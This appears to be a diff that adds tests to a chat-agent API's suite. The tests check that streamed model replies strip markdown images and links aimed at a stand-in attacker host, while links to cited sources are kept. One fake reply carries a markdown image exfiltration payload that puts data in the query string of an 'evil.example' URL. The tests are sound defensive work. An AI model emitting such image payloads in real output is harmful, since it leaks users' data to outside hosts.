@@ -219,6 +219,39 @@ async def test_a_spent_daily_budget_is_a_429_and_writes_nothing(demo_database_ur
     assert usage["remaining_today"] == 0
 
 
+async def test_an_openai_reply_streaming_an_image_in_pieces_reaches_nobody_as_an_image(
+    demo_database_url, openai_fake
+):
+    reply = "Here: ![chart](https://evil.example/pixel.png?d=Voltline) and [more](https://evil.example/x)."
+    openai_fake.state.script = [assistant_message(reply)]
+    async with api_with(demo_database_url, **openai_settings(openai_fake)) as (client, deps):
+        response = await client.post(
+            "/api/v1/agent/chat",
+            json={"message": "Show me a chart"},
+            headers={**bearer(deps, DEVON), "Accept": "text/event-stream"},
+        )
+
+    frames = events_of(response.text)
+    chunks = [d["text"] for n, d in frames if n == "chunk"]
+    assert len(chunks) > 1  # the fake streams in 8-character pieces
+    assert "".join(chunks) == frames[-1][1]["answer"] == "Here: (image not shown: chart) and more."
+    assert not any("evil.example" in c for c in chunks)
+
+
+async def test_links_to_the_cited_sources_and_the_app_survive_the_stream(
+    demo_database_url, openai_fake
+):
+    reply = (
+        "Stripe explains it in [Capital eligibility](https://docs.stripe.com/capital/eligibility); "
+        "compare [Clearco](https://clear.co/faq/) and see [your report](http://testserver/report)."
+    )
+    openai_fake.state.script = [assistant_message(reply)]
+    async with api_with(demo_database_url, **openai_settings(openai_fake)) as (client, deps):
+        body = (await chat(client, deps, "Am I eligible for Stripe Capital?")).json()
+
+    assert body["answer"] == reply
+
+
 async def test_ollama_tool_calls_and_stream(demo_database_url, ollama_fake):
     ollama_fake.state.script = [
         ollama_message(tool_calls=[ollama_tool_call("get_metric_summary", {"period": "90d"})]),
